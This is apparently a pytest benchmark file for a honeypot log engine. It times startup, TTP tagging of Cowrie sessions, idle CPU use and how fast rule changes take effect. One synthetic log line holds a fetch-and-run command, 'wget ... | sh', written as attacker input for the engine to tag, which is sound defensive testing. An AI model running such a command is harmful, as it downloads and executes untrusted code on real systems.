"""How long one waits: for an engine to be ready, for the first tag, for a rule that was changed; and what idling costs.

Each figure is of the program as it is used: a daemon of its own beside a log, or an engine whose store the console has.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import sqlite3
import subprocess
import time
from collections.abc import Callable, Iterator
from contextlib import asynccontextmanager, closing, contextmanager
from datetime import UTC, datetime
from pathlib import Path
from statistics import median

import pytest

from decnet.config import load_settings
from decnet.engine import Engine
from decnet.home import packaged_rules_dir
from decnet.ttp.rules import RuleState
from decnet.ttp.worker import TtpWorker
from tests.bench.figures import Table, p95
from tests.cowriegen import write_log
from tests.programkit import PROGRAM, daemon, surroundings

pytestmark = [pytest.mark.bench, pytest.mark.timeout(900)]
RUNS = 5
TIMES = 20
LOOK_S = 0.002


def wait_for(look: Callable[[], object], limit: float) -> float:
    """Seconds until ``look`` says something true."""
    begun = time.perf_counter()
    while not look():
        assert time.perf_counter() - begun < limit
        time.sleep(LOOK_S)
    return time.perf_counter() - begun


def counted(data: Path, query: str, *values: str) -> int:
    """A number of the database; 0 while there is none."""
    try:
        with closing(sqlite3.connect(f"file:{data / 'decnet.sqlite'}?mode=ro", uri=True)) as db:
            return int(db.execute(query, values).fetchone()[0])
    except sqlite3.OperationalError:
        return 0


def session_lines(name: str) -> str:
    """A session as Cowrie logs it: log-in, a download, the end."""
    steps = [
        {"eventid": "cowrie.session.connect", "protocol": "ssh"},
        {"eventid": "cowrie.login.success", "username": "root", "password": "x"},
        {"eventid": "cowrie.command.input", "input": "wget http://203.0.113.9/a.sh -O- | sh"},
        {"eventid": "cowrie.session.closed", "duration": 2.0},
    ]
    about = {"session": name, "sensor": "latency", "src_ip": "198.51.100.9"}
    stamp = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    return "".join(json.dumps({**step, **about, "timestamp": stamp}) + "\n" for step in steps)


@contextmanager
def started(data: Path, *arguments: str | Path) -> Iterator[float]:
    """A daemon; seconds from its start until it said that it is ready."""
    place = f"{data}.notify"
    with closing(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)) as heard:
        heard.bind(place)
        heard.settimeout(60)
        begun = time.perf_counter()
        process = subprocess.Popen(
            [PROGRAM, "--headless", "--data-dir", str(data), *map(str, arguments)],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            env={**surroundings(), "NOTIFY_SOCKET": place},
        )  # fmt: skip
        try:
            while b"READY=1" not in heard.recv(4096):
                pass
            yield time.perf_counter() - begun
        finally:
            process.terminate()
            process.wait(20)
            os.unlink(place)


def test_an_engine_is_ready_and_tags_what_waits(tmp_path: Path, table: Table) -> None:
    log = tmp_path / "cowrie.json"
    write_log(log, 20_000, 11)
    ready, first = [], []
    for run in range(RUNS):
        data = tmp_path / f"data{run}"
        begun = time.perf_counter()
        with started(data, "--sensor", f"cowrie={log}") as took:
            ready.append(took)
            wait_for(lambda data=data: counted(data, "SELECT count(*) FROM ttp_tag"), 60)  # type: ignore[misc]
            first.append(time.perf_counter() - begun)
    table.add("start to ready, new database", median(ready), 2.0, "s")
    table.add("start to the first tag of a log that waits", median(first), 2.0, "s")


def test_a_session_that_ends_is_tagged_soon_and_idling_costs_nothing(tmp_path: Path, table: Table) -> None:
    log, data = tmp_path / "cowrie.json", tmp_path / "data"
    log.write_text(session_lines("first"), "utf-8")
    tags = "SELECT count(*) FROM ttp_tag JOIN session USING (session_id) WHERE sensor_session = ?"
    with daemon(data, tmp_path / "said", "--sensor", f"cowrie={log}") as engine:
        wait_for(lambda: counted(data, tags, "first"), 60)
        time.sleep(10)  # what a start brings is over
        taken = []
        for number in range(TIMES):
            name = f"late{number}"
            with log.open("a", encoding="utf-8") as file:
                file.write(session_lines(name))
            taken.append(wait_for(lambda name=name: counted(data, tags, name), 30))  # type: ignore[misc]
            time.sleep(0.3)
        time.sleep(10)
        before, begun = cpu_seconds(engine.process.pid), time.perf_counter()
        time.sleep(30)
        idle = 100 * (cpu_seconds(engine.process.pid) - before) / (time.perf_counter() - begun)
    table.add("last line of a session to its tags, p95", 1000 * p95(taken), 300.0, "ms")
    table.add("idle engine, share of a core", idle, 1.0, "%")


def cpu_seconds(pid: int) -> float:
    """What a process and its children have used."""
    children = subprocess.run(
        ["pgrep", "-P", str(pid)], capture_output=True, text=True, check=False
    ).stdout.split()
    stats = [Path(f"/proc/{one}/stat").read_text().rpartition(")")[2].split() for one in (pid, *children)]
    return sum(int(stat[11]) + int(stat[12]) for stat in stats) / os.sysconf("SC_CLK_TCK")


@asynccontextmanager
async def running(tmp_path: Path):  # type: ignore[no-untyped-def]
    """An engine with rules of its own, and its rule engine."""
    rules = tmp_path / "rules"
    rules.mkdir()
    for file in packaged_rules_dir().glob("*.yaml"):
        (rules / file.name).write_bytes(file.read_bytes())
    engine = Engine(load_settings(data_dir=tmp_path / "data", rules=rules))
    await engine.start()
    try:
        (worker,) = (r.worker for r in engine.supervisor.runners.values() if isinstance(r.worker, TtpWorker))
        (judge,) = (one.engine for one in worker._engines())
        await asyncio.sleep(5)
        yield engine, judge, rules
    finally:
        await engine.stop(5.0)


async def waits(look: Callable[[], object], limit: float = 20.0) -> float:
    """Seconds until ``look`` says something true, on the engine's own loop."""
    begun = time.perf_counter()
    while not look():
        assert time.perf_counter() - begun < limit
        await asyncio.sleep(LOOK_S)
    return time.perf_counter() - begun


async def test_a_change_of_a_rule_is_in_force_soon(tmp_path: Path, table: Table) -> None:
    toggled, saved = [], []
    async with running(tmp_path) as (engine, judge, rules):
        for number in range(TIMES):
            state = RuleState("disabled" if number % 2 == 0 else "enabled")
            begun = time.perf_counter()
            await engine.rules.set_state("R0001", state)
            await waits(
                lambda state=state: judge.snapshot().states.get("R0001", RuleState()).state == state.state
            )
            toggled.append(time.perf_counter() - begun)
        (file,) = rules.glob("R0001*")
        text = file.read_text("utf-8")
        version = judge.snapshot().rules.by_id["R0001"].rule_version
        for number in range(1, TIMES + 1):
            file.write_text(
                text.replace(f"rule_version: {version}", f"rule_version: {version + number}"), "utf-8"
            )
            saved.append(
                await waits(
                    lambda number=number: (
                        judge.snapshot().rules.by_id["R0001"].rule_version == version + number
                    )
                )
            )
            await asyncio.sleep(0.3)
    table.add("rule toggled to no longer firing, p95", 1000 * p95(toggled), 150.0, "ms")
    table.add("rule file saved to in force, p95", 1000 * p95(saved), 500.0, "ms")
